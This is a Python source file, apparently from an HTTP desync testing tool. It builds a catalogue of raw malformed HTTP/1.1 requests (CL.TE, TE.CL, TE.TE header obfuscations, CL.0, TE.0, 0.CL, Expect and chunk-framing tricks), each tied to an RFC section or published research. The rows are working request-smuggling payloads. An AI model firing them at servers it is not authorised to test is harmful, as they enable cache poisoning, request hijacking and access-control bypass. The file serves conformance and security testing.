# SPDX-License-Identifier: MIT
"""The known ways to have two servers disagree where a request ends, a row
each: its name, what it stands on, and its bytes.  That is a section of an RFC,
or the name under which such a class was published: James Kettle's of 2019 and
2022 ("HTTP Desync Attacks", "Browser-Powered Desync Attacks") and of 2025
("HTTP/1.1 must die"), Jeppe Bonde Weikop's of 2025 ("Funky Chunks"), Nathan
Davison's of 2019 ("Abusing HTTP hop-by-hop request headers").

In a row stand %(target)s, %(host)s and %(smuggled)s, a whole request that only
those see who end the one before it too early, and %(size)x its length;
%(sent)d is how much follows the head.
"""
from streams import Stream

LINE = b"PUT %(target)s HTTP/1.1"
HOST = b"Host: %(host)s"
CHUNKED = b"Transfer-Encoding: chunked"
LENGTH = b"Content-Length: %(sent)d"
ONE = b"5\r\nhello\r\n0\r\n\r\n"
HIDDEN = b"0\r\n\r\n%(smuggled)s"

MESSAGE = "RFC 9112, section "
FIELDS = "RFC 9110, section "
DESYNC = "HTTP Desync Attacks, "
BROWSER = "Browser-Powered Desync Attacks, "
FUNKY = "Funky Chunks, "
DIE = "HTTP/1.1 must die, "

# Name, source, lines behind the request line, and what follows the head.
FRAMING = (
    ("plain length", MESSAGE + "6.2", [HOST, LENGTH], b"hello"),
    ("plain chunks", MESSAGE + "7.1", [HOST, CHUNKED], ONE),
    ("no body", MESSAGE + "6.3", [HOST], b""),
    ("a request as a body", MESSAGE + "6.2", [HOST, LENGTH],
     b"%(smuggled)s"),
    ("CL.TE", DESYNC + "CL.TE; " + MESSAGE + "6.1",
     [HOST, LENGTH, CHUNKED], HIDDEN),
    ("TE.CL", DESYNC + "TE.CL; " + MESSAGE + "6.1",
     [HOST, CHUNKED, b"Content-Length: 4"],
     b"%(size)x\r\n%(smuggled)s\r\n0\r\n\r\n"),
    ("CL.TE, length 0", DESYNC + "CL.TE",
     [HOST, b"Content-Length: 0", CHUNKED], ONE),
    ("TE.TE, unknown first", DESYNC + "TE.TE",
     [HOST, b"Transfer-Encoding: x", CHUNKED, LENGTH], HIDDEN),
    ("TE.TE, unknown last", DESYNC + "TE.TE",
     [HOST, CHUNKED, b"Transfer-Encoding: x", LENGTH], HIDDEN),
    ("TE.TE, x-prefixed", DESYNC + "TE.TE",
     [HOST, b"Transfer-Encoding: xchunked", LENGTH], HIDDEN),
    ("TE.TE, space before the colon", MESSAGE + "5.1",
     [HOST, b"Transfer-Encoding : chunked", LENGTH], HIDDEN),
    ("TE.TE, tab before the value", DESYNC + "TE.TE",
     [HOST, b"Transfer-Encoding:\tchunked", LENGTH], HIDDEN),
    ("TE.TE, vertical tab", DESYNC + "TE.TE",
     [HOST, b"Transfer-Encoding:\x0bchunked", LENGTH], HIDDEN),
    ("TE.TE, form feed", DESYNC + "TE.TE",
     [HOST, b"Transfer-Encoding: chunked\x0c", LENGTH], HIDDEN),
    ("TE.TE, line begins with a space", MESSAGE + "2.2",
     [HOST, b" Transfer-Encoding: chunked", LENGTH], HIDDEN),
    ("TE.TE, folded", MESSAGE + "5.2",
     [HOST, b"Transfer-Encoding:\r\n chunked", LENGTH], HIDDEN),
    ("TE.TE, folded behind a word", MESSAGE + "5.2",
     [HOST, b"Transfer-Encoding: chunked\r\n x", LENGTH], HIDDEN),
    ("TE.TE, behind a bare LF", MESSAGE + "2.2",
     [HOST, b"X-A: b\nTransfer-Encoding: chunked", LENGTH], HIDDEN),
    ("TE.TE, behind a bare CR", MESSAGE + "2.2",
     [HOST, b"X-A: b\rTransfer-Encoding: chunked", LENGTH], HIDDEN),
    ("TE.TE, quoted", DESYNC + "TE.TE",
     [HOST, b'Transfer-Encoding: "chunked"', LENGTH], HIDDEN),
    ("TE.TE, NUL in the name", FIELDS + "5.5",
     [HOST, b"Transfer-Encoding\x00: chunked", LENGTH], HIDDEN),
    ("TE.TE, NUL in the value", FIELDS + "5.5",
     [HOST, b"Transfer-Encoding: chunked\x00", LENGTH], HIDDEN),
    ("TE.TE, underscore", DESYNC + "TE.TE",
     [HOST, b"Transfer_Encoding: chunked", LENGTH], HIDDEN),
    ("TE.TE, identity", MESSAGE + "6.1; RFC 2616, section 3.6",
     [HOST, b"Transfer-Encoding: identity", LENGTH], HIDDEN),
    ("TE, chunked isn't last", MESSAGE + "6.3",
     [HOST, b"Transfer-Encoding: chunked, gzip"], ONE),
    ("TE, chunked twice", MESSAGE + "6.1",
     [HOST, b"Transfer-Encoding: chunked, chunked"], ONE),
    ("TE, an empty element", FIELDS + "5.6.1",
     [HOST, b"Transfer-Encoding: , chunked"], ONE),
    ("TE, parameters", MESSAGE + "7",
     [HOST, b"Transfer-Encoding: chunked;q=1"], ONE),
    ("TE.0", BROWSER + "TE.0", [HOST, CHUNKED],
     b"%(size)x\r\n%(smuggled)s\r\n0\r\n\r\n"),
    ("CL.0", BROWSER + "CL.0", [HOST, LENGTH], b"%(smuggled)s"),
    ("0.CL", DIE + "0.CL", [HOST, b"Content-Length:\r\n %(sent)d"],
     b"%(smuggled)s"),
    ("0.CL, space before the colon", DIE + "0.CL",
     [HOST, b"Content-Length : %(sent)d"], b"%(smuggled)s"),
    ("CL, two that differ", MESSAGE + "6.3",
     [HOST, b"Content-Length: 0", LENGTH], b"%(smuggled)s"),
    ("CL, two that don't differ", MESSAGE + "6.3",
     [HOST, LENGTH, LENGTH], b"%(smuggled)s"),
    ("CL, a list", FIELDS + "8.6",
     [HOST, b"Content-Length: %(sent)d, %(sent)d"], b"%(smuggled)s"),
    ("CL, a list that differs", FIELDS + "8.6",
     [HOST, b"Content-Length: 0, %(sent)d"], b"%(smuggled)s"),
    ("CL, a plus", FIELDS + "8.6", [HOST, b"Content-Length: +%(sent)d"],
     b"%(smuggled)s"),
    ("CL, a minus", FIELDS + "8.6", [HOST, b"Content-Length: -1"],
     b"%(smuggled)s"),
    ("CL, hexadecimal", FIELDS + "8.6", [HOST, b"Content-Length: 0x41"],
     b"%(smuggled)s"),
    ("CL, a leading zero", FIELDS + "8.6",
     [HOST, b"Content-Length: 0%(sent)d"], b"%(smuggled)s"),
    ("CL, over 64 bits", FIELDS + "8.6",
     [HOST, b"Content-Length: 18446744073709551617"], b"%(smuggled)s"),
    ("CL, empty", FIELDS + "8.6", [HOST, b"Content-Length: "],
     b"%(smuggled)s"),
    ("CL, a digit behind a space", FIELDS + "8.6",
     [HOST, b"Content-Length: 0 %(sent)d"], b"%(smuggled)s"),
    ("CL, a fraction", FIELDS + "8.6", [HOST, b"Content-Length: %(sent)d.0"],
     b"%(smuggled)s"),
    ("CL, underscore in the name", DESYNC + "hidden headers",
     [HOST, b"Content_Length: %(sent)d"], b"%(smuggled)s"),
    ("CL with NUL", FIELDS + "5.5", [HOST, b"Content-Length: %(sent)d\x00"],
     b"%(smuggled)s"),
    ("CL named by Connection", FIELDS + "7.6.1; hop-by-hop request headers",
     [HOST, b"Connection: Content-Length", LENGTH], b"%(smuggled)s"),
    ("TE named by Connection", FIELDS + "7.6.1; hop-by-hop request headers",
     [HOST, b"Connection: Transfer-Encoding", CHUNKED], ONE),
    ("proxy's fields named by Connection", "hop-by-hop request headers",
     [HOST, b"Connection: close, X-Forwarded-For, X-Forwarded-Host"], b""),
    ("Expect with a body", DIE + "Expect; " + FIELDS + "10.1.1",
     [HOST, b"Expect: 100-continue", LENGTH], b"%(smuggled)s"),
    ("Expect behind the length", DIE + "Expect",
     [HOST, LENGTH, b"Expect: 100-continue"], b"%(smuggled)s"),
    ("Expect, obfuscated", DIE + "Expect",
     [HOST, b"Expect: y 100-continue", LENGTH], b"%(smuggled)s"),
    ("Expect, twice", DIE + "Expect",
     [HOST, b"Expect: 100-continue", b"Expect: 100-continue", LENGTH],
     b"%(smuggled)s"),
    ("Expect with chunks", FIELDS + "10.1.1",
     [HOST, b"Expect: 100-continue", CHUNKED], ONE),
    ("chunks, TERM.EXT", FUNKY + "TERM.EXT; " + MESSAGE + "7.1.1",
     [HOST, CHUNKED], b"2;\nxx\r\n41\r\n0\r\n\r\n%(smuggled)s0\r\n\r\n"),
    ("chunks, EXT.TERM with CR", FUNKY + "EXT.TERM",
     [HOST, CHUNKED], b"2;\rxx\r\nab\r\n0\r\n\r\n"),
    ("chunks, TERM.SPILL", FUNKY + "TERM.SPILL",
     [HOST, CHUNKED], b"5\r\nAAAAAXX2\r\n41\r\n0\r\n\r\n%(smuggled)s"),
    ("chunks, SPILL.TERM", FUNKY + "SPILL.TERM",
     [HOST, CHUNKED], b"5\r\nAAAAA\r2\r\n41\r\n0\r\n\r\n%(smuggled)s"),
    ("chunks, ONE.TWO", FUNKY + "ONE.TWO",
     [HOST, CHUNKED], b"5\r\nAAAAA\n\n2\r\nab\r\n0\r\n\r\n"),
    ("chunks, TWO.ONE", FUNKY + "TWO.ONE",
     [HOST, CHUNKED], b"5\r\nAAAAA\n2\r\nab\r\n0\r\n\r\n"),
    ("chunks, ZERO.TWO", FUNKY + "ZERO.TWO",
     [HOST, CHUNKED], b"5\r\nAAAAA2\r\nab\r\n0\r\n\r\n"),
    ("chunks, bare LF", MESSAGE + "7.1", [HOST, CHUNKED],
     b"5\nhello\n0\n\n"),
    ("chunks, bare CR", MESSAGE + "7.1", [HOST, CHUNKED],
     b"5\rhello\r0\r\r"),
    ("chunks, 0x", MESSAGE + "7.1", [HOST, CHUNKED],
     b"0x5\r\nhello\r\n0\r\n\r\n"),
    ("chunks, a plus", MESSAGE + "7.1", [HOST, CHUNKED],
     b"+5\r\nhello\r\n0\r\n\r\n"),
    ("chunks, a minus", MESSAGE + "7.1", [HOST, CHUNKED],
     b"-5\r\nhello\r\n0\r\n\r\n"),
    ("chunks, a space before the size", MESSAGE + "7.1", [HOST, CHUNKED],
     b" 5\r\nhello\r\n0\r\n\r\n"),
    ("chunks, a space behind the size", MESSAGE + "7.1.1", [HOST, CHUNKED],
     b"5 \r\nhello\r\n0\r\n\r\n"),
    ("chunks, over 64 bits", MESSAGE + "7.1", [HOST, CHUNKED],
     b"10000000000000005\r\nhello\r\n0\r\n\r\n"),
    ("chunks, over 32 bits", MESSAGE + "7.1", [HOST, CHUNKED],
     b"100000005\r\nhello\r\n0\r\n\r\n"),
    ("chunks, an empty size", MESSAGE + "7.1", [HOST, CHUNKED],
     b"\r\nhello\r\n0\r\n\r\n"),
    ("chunks, an underscore", MESSAGE + "7.1", [HOST, CHUNKED],
     b"1_0\r\nhello\r\n0\r\n\r\n"),
    ("chunks, a quoted CRLF", MESSAGE + "7.1.1", [HOST, CHUNKED],
     b'5;a="\r\nhello"\r\n0\r\n\r\n'),
    ("chunks, no CRLF at their end", MESSAGE + "7.1", [HOST, CHUNKED],
     b"5\r\nhello\r\n0\r\n"),
    ("chunks, an end of LF", MESSAGE + "7.1", [HOST, CHUNKED],
     b"5\r\nhello\r\n0\r\n\n"),
    ("chunks, an end of CR and something", MESSAGE + "7.1", [HOST, CHUNKED],
     b"5\r\nhello\r\n0\r\n\rX"),
    ("trailers, Content-Length", MESSAGE + "7.1.2; " + FIELDS + "6.5.1",
     [HOST, CHUNKED], b"0\r\nContent-Length: 65\r\n\r\n%(smuggled)s"),
    ("trailers, Transfer-Encoding", FIELDS + "6.5.1",
     [HOST, CHUNKED], b"0\r\nTransfer-Encoding: chunked\r\n\r\n"),
    ("trailers, Host", FIELDS + "6.5.1", [HOST, CHUNKED],
     b"0\r\nHost: other.test\r\n\r\n"),
    ("trailers, a bare LF", MESSAGE + "7.1.2", [HOST, CHUNKED],
     b"0\r\nX-A: b\n\r\n\r\n"),
    ("trailers, folded", MESSAGE + "5.2", [HOST, CHUNKED],
     b"0\r\nX-A: b\r\n c\r\n\r\n"),
    ("trailers, without a colon", MESSAGE + "7.1.2", [HOST, CHUNKED],
     b"0\r\nGET / HTTP/1.1\r\n\r\n"),
    ("trailers that are a request", MESSAGE + "7.1.2", [HOST, CHUNKED],
     b"0\r\n%(smuggled)s"),
    ("Host, none", MESSAGE + "3.2", [LENGTH], b"hello"),
    ("Host, two", MESSAGE + "3.2", [HOST, b"Host: other.test", LENGTH],
     b"hello"),
    ("Host, two alike", MESSAGE + "3.2", [HOST, HOST, LENGTH], b"hello"),
    ("Host, a bad one", MESSAGE + "3.2", [b"Host: a/b", LENGTH], b"hello"),
    ("Host, folded", MESSAGE + "5.2", [b"Host:\r\n %(host)s", LENGTH],
     b"hello"),
    ("a line without a colon", MESSAGE + "5", [HOST, b"X-A", LENGTH],
     b"hello"),
    ("a line that is a request", MESSAGE + "5",
     [HOST, b"GET /smuggled HTTP/1.1", LENGTH], b"hello"),
    ("a name that is empty", MESSAGE + "5", [HOST, b": b", LENGTH], b"hello"),
    ("a head that ends in LF LF", MESSAGE + "2.2",
     [HOST, b"X-A: b\n\nX-B: c", LENGTH], b"hello"),
    ("a head with a line of a space", MESSAGE + "2.2",
     [HOST, LENGTH, b" "], b"hello"),
    ("Upgrade to h2c", FIELDS + "7.8; h2c smuggling",
     [HOST, b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__",
      b"Connection: Upgrade, HTTP2-Settings", LENGTH], b"hello"),
    ("Upgrade to websocket", FIELDS + "7.8; RFC 6455, section 4.1",
     [HOST, b"Upgrade: websocket", b"Connection: Upgrade",
      b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: "
      b"AAAAAAAAAAAAAAAAAAAAAA=="], b"%(smuggled)s"),
)

# Name, source, the request line; Host, a length and its bytes follow.
LINES = (
    ("version 1.0", MESSAGE + "2.3", b"PUT %(target)s HTTP/1.0"),
    ("version 1.2", FIELDS + "2.5", b"PUT %(target)s HTTP/1.2"),
    ("version 2.0", FIELDS + "2.5", b"PUT %(target)s HTTP/2.0"),
    ("version 0.9", MESSAGE + "A.1; RFC 1945, section 5", b"PUT %(target)s"),
    ("GET of 0.9", "RFC 1945, section 5", b"GET %(target)s"),
    ("version of two digits", MESSAGE + "2.3", b"PUT %(target)s HTTP/1.10"),
    ("version in small letters", MESSAGE + "2.3", b"PUT %(target)s http/1.1"),
    ("two versions", MESSAGE + "3", b"PUT %(target)s HTTP/1.1 HTTP/1.0"),
    ("GET with a body", FIELDS + "9.3.1", b"GET %(target)s HTTP/1.1"),
    ("HEAD with a body", FIELDS + "9.3.2", b"HEAD %(target)s HTTP/1.1"),
    ("OPTIONS with a body", FIELDS + "9.3.7", b"OPTIONS %(target)s HTTP/1.1"),
    ("TRACE with a body", FIELDS + "9.3.8", b"TRACE %(target)s HTTP/1.1"),
    ("CONNECT of a path", FIELDS + "9.3.6", b"CONNECT %(target)s HTTP/1.1"),
    ("CONNECT of an authority", FIELDS + "9.3.6",
     b"CONNECT other.test:80 HTTP/1.1"),
    ("method in small letters", FIELDS + "9.1", b"put %(target)s HTTP/1.1"),
    ("PRI", "RFC 9113, section 3.4", b"PRI * HTTP/2.0"),
    ("a NUL in the method", MESSAGE + "3.1", b"PU\x00T %(target)s HTTP/1.1"),
    ("absolute target", MESSAGE + "3.2.2",
     b"PUT http://%(host)s%(target)s HTTP/1.1"),
    ("absolute target of another host", MESSAGE + "3.2.2",
     b"PUT http://other.test%(target)s HTTP/1.1"),
    ("absolute target with a user", FIELDS + "4.2.4",
     b"PUT http://u@%(host)s%(target)s HTTP/1.1"),
    ("asterisk", MESSAGE + "3.2.4", b"PUT * HTTP/1.1"),
    ("OPTIONS of all", MESSAGE + "3.2.4", b"OPTIONS * HTTP/1.1"),
    ("target with a fragment", MESSAGE + "3.2",
     b"PUT %(target)s#a HTTP/1.1"),
    ("target with a space", MESSAGE + "3.2", b"PUT %(target)s a HTTP/1.1"),
    ("target with a tab", MESSAGE + "3", b"PUT %(target)s\tHTTP/1.1"),
    ("target with a NUL", MESSAGE + "3.2", b"PUT %(target)s\x00 HTTP/1.1"),
    ("target with a bare CR", MESSAGE + "2.2",
     b"PUT %(target)s\rHTTP/1.1"),
    ("target beyond ASCII", MESSAGE + "3.2", b"PUT %(target)s\xff HTTP/1.1"),
    ("target of two slashes", MESSAGE + "3.2.1",
     b"PUT //other.test%(target)s HTTP/1.1"),
    ("two spaces", MESSAGE + "3", b"PUT  %(target)s HTTP/1.1"),
    ("a space at the end", MESSAGE + "3", b"PUT %(target)s HTTP/1.1 "),
    ("empty lines before it", MESSAGE + "2.2",
     b"\r\n\r\nPUT %(target)s HTTP/1.1"),
    ("a bare LF before it", MESSAGE + "2.2", b"\nPUT %(target)s HTTP/1.1"),
    ("a space before it", MESSAGE + "2.2", b" PUT %(target)s HTTP/1.1"),
    ("a bare LF behind it", MESSAGE + "2.2",
     b"PUT %(target)s HTTP/1.1\nX-A: b"),
)


def filled(text, names):
    """%(name)s as names say; other signs of per cent stay."""
    for name, value in names.items():
        text = text.replace(b"%%(%s)s" % name, value)
    return text


def stream(place, number, row):
    name, source, first, lines, body = row
    key = b"c%d" % number
    names = {b"host": place.host, b"target": place.target(key),
             b"smuggled": place.smuggled()}
    body = filled(body.replace(b"%(size)x", b"%x" % len(place.smuggled())),
                  names)
    head = b"\r\n".join([first, *lines, b"", b""])
    head = filled(head, names).replace(b"%(sent)d", b"%d" % len(body))
    return Stream(name, head + body + place.marker(key), source)


def table(place):
    rows = [(name, source, LINE, lines, body)
            for name, source, lines, body in FRAMING]
    rows += [(name, source, first, [HOST, LENGTH], b"hello")
             for name, source, first in LINES]
    for method in (b"GET", b"HEAD", b"POST", b"DELETE", b"OPTIONS"):
        first = method + b" %(target)s HTTP/1.1"
        name = method.decode() + " with a request as a body"
        rows.append((name, BROWSER + "CL.0", first, [HOST, LENGTH],
                     b"%(smuggled)s"))
        rows.append((name + " in chunks", DESYNC + "TE.0", first,
                     [HOST, CHUNKED], b"%(size)x\r\n%(smuggled)s\r\n"
                     b"0\r\n\r\n"))
    # Chunks in 1.0 are no matter of a line alone.
    rows.append(("chunks in 1.0", MESSAGE + "6.1",
                 b"PUT %(target)s HTTP/1.0", [HOST, CHUNKED], ONE))
    rows.append(("chunks in 1.0, kept", MESSAGE + "6.1",
                 b"PUT %(target)s HTTP/1.0",
                 [HOST, CHUNKED, b"Connection: keep-alive"], ONE))
    return [stream(place, number, row) for number, row in enumerate(rows)]
